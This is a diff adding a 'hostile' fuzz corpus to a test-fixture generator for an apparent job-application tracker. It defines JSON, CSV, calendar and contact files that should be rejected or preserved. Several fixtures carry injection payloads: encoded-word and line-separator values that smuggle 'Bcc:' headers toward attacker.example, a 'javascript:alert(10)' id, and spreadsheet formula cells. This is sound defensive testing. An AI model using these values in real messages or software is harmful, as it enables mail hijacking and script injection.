@@ -116,6 +116,92 @@ files: dict[str, bytes | str] = {
     "csv_utf16_without_bom.csv": "company,role\r\nAcme,Analyst\r\n".encode("utf-16-le"),
     "csv_control_characters.csv": "company,role\r\nAcme\x07Corp,Analyst\r\n",
 }
+
+# -- hostile/: hand-picked nasties (issue 9), each either refused cleanly ("no_") or
+# accepted with a backup that restores identically ("ok_"); test_fuzz_corpus.py.
+EW = "=?utf-8?q?Pat=0D=0ABcc:_spy@attacker.example?="
+
+
+def doc(app: str = "", profile: str = "", contact: str = "", event: str = "") -> str:
+    return (
+        '{"format": "followthrough/1", "profile": {"name": "Jordan", "timezone": "America/Chicago"' + profile + "}, "
+        '"applications": [{"id": "globex", "company": "Globex", "role": "Analyst"' + app + ", "
+        '"contacts": [{"key": "ann", "name": "Ann Lee", "role": "hiring_officer"' + contact + "}], "
+        '"events": [{"type": "interview", "on": "2026-11-03", "with": ["ann"]' + event + "}]}]}"
+    )
+
+
+hostile: dict[str, bytes | str] = {
+    "ok_json_plain.json": doc(),
+    "ok_json_first_day.json": doc(app=', "applied_on": "1900-01-01"'),
+    "ok_json_last_day.json": doc(event=', "x-when": "9999-12-31"').replace("2026-11-03", "2200-12-31"),
+    "ok_json_timeframe_overflow.json": doc().replace(
+        '"with": ["ann"]}', '"with": ["ann"]}, {"type": "debrief", "on": "2026-11-03", "timeframe": "99999999999999999999 weeks"}'
+    ),
+    "ok_json_unknown_fields.json": doc(app=', "x-a": {"b": [1, 2.5e-7, -0.0, 1e299, null, true, "\u2028"]}'),
+    "ok_json_vcard_fields.json": doc(contact=', "emails": ["a@b.example"], "phone_types": {"+1 555": "cell"}, "name_parts": {"given": "Ann"}'),
+    "ok_json_ical_fields.json": doc(event=', "ical_uid": "u1@globex.com", "ical_sequence": 2147483647'),
+    "no_json_year_9999.json": doc(app=', "applied_on": "9999-12-31"'),
+    "no_json_year_1.json": doc().replace("2026-11-03", "0001-01-01"),
+    "no_json_year_10000.json": doc().replace("2026-11-03", "10000-01-01"),
+    "no_json_decision_by_2201.json": doc().replace(
+        '"with": ["ann"]}', '"with": ["ann"]}, {"type": "response", "on": "2026-11-04", "outcome": "not_decided", "decision_by": "2201-01-01"}'
+    ),
+    "no_json_4400_digits.json": doc(app=', "x-big": ' + "9" * 4400),
+    "no_json_301_digits.json": doc(app=', "x-big": -' + "9" * 301),
+    "no_json_nan.json": doc(app=', "x-nan": NaN'),
+    "no_json_infinity.json": doc(profile=', "x-inf": Infinity'),
+    "no_json_1e999.json": doc(contact=', "x-huge": 1e999'),
+    "no_json_timezone_folder.json": doc().replace("America/Chicago", "America"),
+    "no_json_timezone_5000.json": doc().replace("America/Chicago", "Europe/" + "x" * 5000),
+    "no_json_lone_surrogate_name.json": doc().replace("Ann Lee", "Ann \\ud800Lee"),
+    "no_json_lone_surrogate_unknown.json": doc(app=', "x-s": "\\udfff"'),
+    "no_json_nul_unknown.json": doc(app=', "x-s": "a\\u0000b"'),
+    "no_json_with_list_of_list.json": doc().replace('"with": ["ann"]', '"with": [[1]]'),
+    "no_json_with_object.json": doc().replace('"with": ["ann"]', '"with": [{"key": "ann"}]'),
+    "no_json_id_javascript.json": doc().replace('"globex"', '"javascript:alert(10)"'),
+    "no_json_id_101.json": doc().replace('"globex"', '"' + "g" * 101 + '"'),
+    "no_json_emails_number.json": doc(contact=', "emails": 5'),
+    "no_json_phone_types_list.json": doc(contact=', "phone_types": ["cell"]'),
+    "no_json_ical_sequence_text.json": doc(event=', "ical_sequence": "abc"'),
+    "no_json_ical_sequence_huge.json": doc(event=', "ical_sequence": 2147483648'),
+    "no_json_encoded_word_name.json": doc().replace("Ann Lee", EW),
+    "no_json_encoded_word_profile.json": doc().replace('"Jordan"', '"' + EW + '"'),
+    "no_json_line_separator.json": doc().replace("Ann Lee", "Ann\\u2028Bcc: x@y.example"),
+    "no_json_next_line.json": doc().replace("Globex", "Glo\\u0085bex", 1),
+    "ok_csv_plain.csv": "company,role,applied_on,contact_name\r\nInitech,Analyst,2026-10-01,Bo Park\r\n",
+    "ok_csv_formula_cells.csv": "company,role,Notes\r\nInitech,Analyst,=1+1\r\nGlobex,Analyst,@SUM(A1)\r\n",
+    "no_csv_year_1.csv": "company,role,applied_on\r\nInitech,Analyst,0001-01-01\r\n",
+    "no_csv_year_9999.csv": "company,role,applied_on\r\nInitech,Analyst,12/31/9999\r\n",
+    "no_csv_encoded_word.csv": f"company,role,contact_name\r\nInitech,Analyst,\"{EW}\"\r\n",
+    "no_csv_line_separator.csv": "company,role\r\nInitech,Ana\u2028lyst\r\n",
+    "no_csv_line_break_in_cell.csv": 'company,role\r\n"Init\r\nech",Analyst\r\n',
+    "no_csv_id_javascript.csv": "id,company,role\r\njavascript:alert(10),Initech,Analyst\r\n",
+    "ok_csv_not_utf8_read_as_a_code_page.csv": b"company,role\r\nInitech,\xed\xa0\x80Analyst\r\n",
+    "ok_ics_plain.ics": ics(ev()),
+    "ok_ics_last_day.ics": ics(ev(start="22001230T150000Z")),
+    "no_ics_year_1.ics": ics(ev(start="00010101T000000Z")),
+    "no_ics_year_9999.ics": ics(ev(start="99991231T235959Z")),
+    "no_ics_year_1899_in_chicago.ics": ics(ev(start="19000101T030000Z")),
+    "no_ics_sequence_5000_digits.ics": ics(ev(more="SEQUENCE:" + "9" * 5000 + "\r\n")),
+    "no_ics_sequence_superscript.ics": ics(ev(more="SEQUENCE:\u00b2\r\n")),
+    "no_ics_organizer_encoded_word.ics": ics(ev().replace("CN=Ann Lee", f'CN="{EW}"')),
+    "no_ics_attendee_line_separator.ics": ics(ev(more="ATTENDEE;CN=Bo\u2028Bcc: x@y.example:mailto:bo@acme.com\r\n")),
+    "no_ics_attendee_encoded_address.ics": ics(ev(more=f"ATTENDEE;CN=Bo:mailto:{EW}@acme.com\r\n")),
+    "no_ics_tzid_folder.ics": ics(ev().replace("DTSTART:20261110T150000Z", "DTSTART;TZID=America:20261110T150000")),
+    "no_ics_tzid_5000.ics": ics(ev().replace("DTSTART:20261110T150000Z", "DTSTART;TZID=" + "Z" * 5000 + ":20261110T150000")),
+    "ok_vcf_grouped_properties.vcf": card("FN:Cy Diaz\r\nitem1.TEL:+1 555 0199\r\nitem1.X-ABLabel:mobile\r\nitem2.EMAIL;type=INTERNET:cy@acme.com\r\n"),
+    "ok_vcf_full.vcf": card("FN:Dr. Nia Okafor\r\nN:Okafor;Nia;;Dr.;PhD\r\nORG:Acme Corp;Analytics\r\nTEL;TYPE=CELL:+1 555 0101\r\n"),
+    "no_vcf_grouped_tel_without_digits.vcf": card("FN:Cy Diaz\r\nitem1.TEL:call the desk\r\n"),
+    "no_vcf_grouped_bad_email.vcf": card("FN:Cy Diaz\r\nitem1.EMAIL:cy at acme\r\n"),
+    "no_vcf_encoded_word_name.vcf": card(f"FN:{EW}\r\n"),
+    "no_vcf_encoded_word_org.vcf": card(f"FN:Cy\r\nitem3.ORG:{EW}\r\n"),
+    "no_vcf_line_separator_name.vcf": card("FN:Cy\u2028Bcc: x@y.example\r\n"),
+    "no_vcf_next_line_title.vcf": card("FN:Cy\r\nTITLE:Boss\u0085Bcc: x@y.example\r\n"),
+}
+(out / "hostile").mkdir(exist_ok=True)
+files |= {f"hostile/{name}": content for name, content in hostile.items()}
+
 for name, content in files.items():
     data = content if isinstance(content, bytes) else content.encode("utf-8")
     (out / name).write_bytes(data)
